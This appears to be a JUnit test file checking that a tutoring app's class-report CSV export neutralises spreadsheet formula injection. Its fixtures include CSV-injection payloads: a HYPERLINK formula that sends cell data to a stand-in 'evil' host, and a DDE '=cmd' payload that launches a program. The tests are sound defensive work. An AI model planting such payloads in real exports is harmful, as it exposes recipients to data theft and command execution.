package tutor.lesson;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The class report's CSV never hands a spreadsheet a formula: OWASP's CSV-injection guidance, cell by cell. */
class ClassReportCsvTest {

    private static Lesson oneQuestion() {
        Step.Question q = new Step.Question("q1", 1, Text.en("Q?"), List.of(new Step.Choice(Text.en("A"), true, Text.en("ok"))), null, "",
                List.of(), List.of(), Text.en("e"), "");
        return new Lesson("x.yaml", "x", Text.en("X"), "rules", 1, 20, null, "classic", List.of(), List.of(), List.of(), List.of(),
                List.of(), List.of(q), new Lesson.TeacherNotes(Text.en("t"), List.of(), null), new Lesson.Handout(null, List.of(), List.of()));
    }

    private static Learner learner(String name, String... wrong) {
        StepResult r = new StepResult("q1", wrong.length, 0, false, true, List.of(wrong));
        return Learner.named(name).with(new LessonAttempt("x", Mode.QUIZ, Instant.EPOCH, true, List.of(r)));
    }

    @Test
    void cellsThatASpreadsheetWouldRunAreQuotedWithASingleQuoteInFront() {
        List<Learner> cls = List.of(
                learner("=HYPERLINK(\"http://evil/\"&A1,\"Click\")", "=1+1"),
                learner("+SUM(A1:A9)", "-50"),
                learner("-2+3", "@SUM(1,2)"),
                learner("@cmd", "\t=1"),
                learner("Zed  =1", " =cmd|' /C calc'!A0"));
        String csv = ClassReport.of(oneQuestion(), cls, false).csv();
        assertThat(csv.split("\r\n")).contains(
                "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"Click\"\")\",x,q1,question,67,false,1,0,false,\"'=1+1\"",
                "\"'+SUM(A1:A9)\",x,q1,question,67,false,1,0,false,\"'-50\"",
                "\"'-2+3\",x,q1,question,67,false,1,0,false,\"'@SUM(1,2)\"",
                "\"'@cmd\",x,q1,question,67,false,1,0,false,\"'\t'=1\"",
                "Zed  =1,x,q1,question,67,false,1,0,false,\"' =cmd|' /C calc'!A0\"");
    }

    @Test
    void aFormulaAfterASemicolonTabOrLineBreakIsNeutralisedForSpreadsheetsThatSplitThere() {
        // French, Russian or German spreadsheets split at ';': the quotes of a later field do not protect it there.
        assertThat(ClassReport.field("Zoé;=HYPERLINK(\"http://evil/\")")).isEqualTo("\"Zoé;'=HYPERLINK(\"\"http://evil/\"\")\"");
        assertThat(ClassReport.field("50; -10")).isEqualTo("\"50; '-10\"");
        assertThat(ClassReport.field("a\t@SUM(1)")).isEqualTo("\"a\t'@SUM(1)\"");
        assertThat(ClassReport.field("line\n=1+1")).isEqualTo("\"line\n'=1+1\"");
        assertThat(ClassReport.field("a;b")).as("quoted, nothing added").isEqualTo("\"a;b\"");
        String csv = ClassReport.of(oneQuestion(), List.of(learner("Ann;=1+1", "5;+2")), false).csv();
        assertThat(csv.split("\r\n")).contains("\"Ann;'=1+1\",x,q1,question,67,false,1,0,false,\"5;'+2\"");
        for (String line : csv.split("\r\n")) {
            for (String cell : line.split("[;\t]")) {
                assertThat(cell.stripLeading()).as("a cell of '%s' split at ';'", line).doesNotStartWith("=").doesNotStartWith("+");
            }
        }
    }

    @Test
    void aCarriageReturnOrTabFirstIsNeutralisedAndOrdinaryCellsStayAsTheyWere() {
        assertThat(ClassReport.field("\rx")).isEqualTo("\"'\rx\"");
        assertThat(ClassReport.field("\tx")).isEqualTo("\"'\tx\"");
        assertThat(ClassReport.field("Ann Ó'Brien")).isEqualTo("Ann Ó'Brien");
        assertThat(ClassReport.field("a-b=c")).as("only the first character counts").isEqualTo("a-b=c");
        assertThat(ClassReport.field("")).isEmpty();
        assertThat(ClassReport.field("B, \"the other\"")).isEqualTo("\"B, \"\"the other\"\"\"");
    }
}
